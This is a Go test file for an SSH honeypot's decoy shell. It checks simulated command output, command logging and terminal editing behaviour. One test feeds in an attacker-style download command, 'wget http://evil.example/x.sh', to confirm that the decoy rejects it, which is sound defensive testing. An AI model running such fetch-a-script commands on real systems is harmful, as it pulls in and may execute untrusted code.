package honeypot

import (
	"bytes"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"lurefield/internal/decoy"
	"lurefield/internal/logger"
)

type recorder struct {
	mu  sync.Mutex
	obs []*logger.Observation
}

func (r *recorder) Emit(o *logger.Observation) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.obs = append(r.obs, o)
}

func (r *recorder) find(substr string) []*logger.Observation {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []*logger.Observation
	for _, o := range r.obs {
		if strings.Contains(o.Message, substr) {
			out = append(out, o)
		}
	}
	return out
}

// fakeTerm stands in for an SSH channel: reads come from a pipe the test
// writes to, writes accumulate in a buffer.
type fakeTerm struct {
	in *io.PipeReader

	mu  sync.Mutex
	out bytes.Buffer
}

func newFakeTerm() (*fakeTerm, *io.PipeWriter) {
	r, w := io.Pipe()
	return &fakeTerm{in: r}, w
}

func (f *fakeTerm) Read(p []byte) (int, error) { return f.in.Read(p) }

func (f *fakeTerm) Write(p []byte) (int, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.out.Write(p)
}

func (f *fakeTerm) Close() error { return f.in.Close() }

func (f *fakeTerm) output() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.out.String()
}

func (f *fakeTerm) waitFor(t *testing.T, substr string) {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if strings.Contains(f.output(), substr) {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("terminal never showed %q; output so far:\n%s", substr, f.output())
}

func startShell(t *testing.T, rec *recorder) (*fakeTerm, *io.PipeWriter, chan struct{}) {
	t.Helper()
	term, input := newFakeTerm()
	done := make(chan struct{})
	go func() {
		newShell(term, "203.0.113.9:40000", "root", rec).run()
		close(done)
	}()
	term.waitFor(t, decoy.ShellPrompt)
	return term, input, done
}

func waitDone(t *testing.T, done chan struct{}) {
	t.Helper()
	select {
	case <-done:
	case <-time.After(3 * time.Second):
		t.Fatal("shell did not exit")
	}
}

func TestShellWhoami(t *testing.T) {
	rec := &recorder{}
	term, input, done := startShell(t, rec)

	_, err := input.Write([]byte("whoami\r"))
	require.NoError(t, err)
	term.waitFor(t, "honeypot\r\n")

	_, err = input.Write([]byte("exit\r"))
	require.NoError(t, err)
	waitDone(t, done)

	out := term.output()
	assert.Contains(t, out, decoy.ShellWelcome)
	assert.Contains(t, out, decoy.ShellLastLogin)
	assert.Contains(t, out, "whoami\r\nhoneypot\r\n"+decoy.ShellPrompt)
	assert.Contains(t, out, "logout\r\n")

	cmds := rec.find("Command received")
	require.Len(t, cmds, 2)
	assert.Equal(t, "whoami", cmds[0].Attrs["command"])
	assert.Equal(t, "exit", cmds[1].Attrs["command"])
}

func TestShellUnameVariants(t *testing.T) {
	rec := &recorder{}
	term, input, done := startShell(t, rec)

	_, err := input.Write([]byte("uname -a\r"))
	require.NoError(t, err)
	term.waitFor(t, decoy.ShellResponses["uname -a"])

	_, err = input.Write([]byte("uname\r"))
	require.NoError(t, err)
	term.waitFor(t, "bash: uname: command not found")

	_, err = input.Write([]byte{0x04}) // Ctrl+D on empty buffer
	require.NoError(t, err)
	waitDone(t, done)
	assert.Contains(t, term.output(), "logout\r\n")
}

func TestShellBackspaceEditing(t *testing.T) {
	rec := &recorder{}
	term, input, done := startShell(t, rec)

	// "pwdX" then erase the X before hitting enter.
	_, err := input.Write([]byte{'p', 'w', 'd', 'X', 0x7f, '\r'})
	require.NoError(t, err)
	term.waitFor(t, "/home/honeypot\r\n")
	assert.Contains(t, term.output(), "\x08 \x08")

	cmds := rec.find("Command received")
	require.Len(t, cmds, 1)
	assert.Equal(t, "pwd", cmds[0].Attrs["command"])

	_, err = input.Write([]byte("logout\r"))
	require.NoError(t, err)
	waitDone(t, done)
}

func TestShellBackspaceFloodOnEmptyBuffer(t *testing.T) {
	rec := &recorder{}
	term, input, done := startShell(t, rec)

	flood := bytes.Repeat([]byte{0x7f}, 64)
	_, err := input.Write(append(flood, '\r'))
	require.NoError(t, err)
	term.waitFor(t, decoy.ShellPrompt+"\r\n"+decoy.ShellPrompt)

	assert.Empty(t, rec.find("Command received"))
	assert.NotContains(t, term.output(), "\x08 \x08")

	_, err = input.Write([]byte("quit\r"))
	require.NoError(t, err)
	waitDone(t, done)
}

func TestShellCtrlCClearsBuffer(t *testing.T) {
	rec := &recorder{}
	term, input, done := startShell(t, rec)

	_, err := input.Write([]byte{'r', 'm', 0x03})
	require.NoError(t, err)
	term.waitFor(t, "^C\r\n"+decoy.ShellPrompt)

	_, err = input.Write([]byte("id\r"))
	require.NoError(t, err)
	term.waitFor(t, "uid=1000(honeypot)")

	cmds := rec.find("Command received")
	require.Len(t, cmds, 1)
	assert.Equal(t, "id", cmds[0].Attrs["command"])

	_, err = input.Write([]byte("exit\r"))
	require.NoError(t, err)
	waitDone(t, done)
}

func TestShellUnknownCommand(t *testing.T) {
	rec := &recorder{}
	term, input, done := startShell(t, rec)

	_, err := input.Write([]byte("wget http://evil.example/x.sh\r"))
	require.NoError(t, err)
	term.waitFor(t, "bash: wget http://evil.example/x.sh: command not found")

	_, err = input.Write([]byte("exit\r"))
	require.NoError(t, err)
	waitDone(t, done)
}

func TestShellClientDisconnect(t *testing.T) {
	rec := &recorder{}
	_, input, done := startShell(t, rec)

	require.NoError(t, input.Close())
	waitDone(t, done)
}
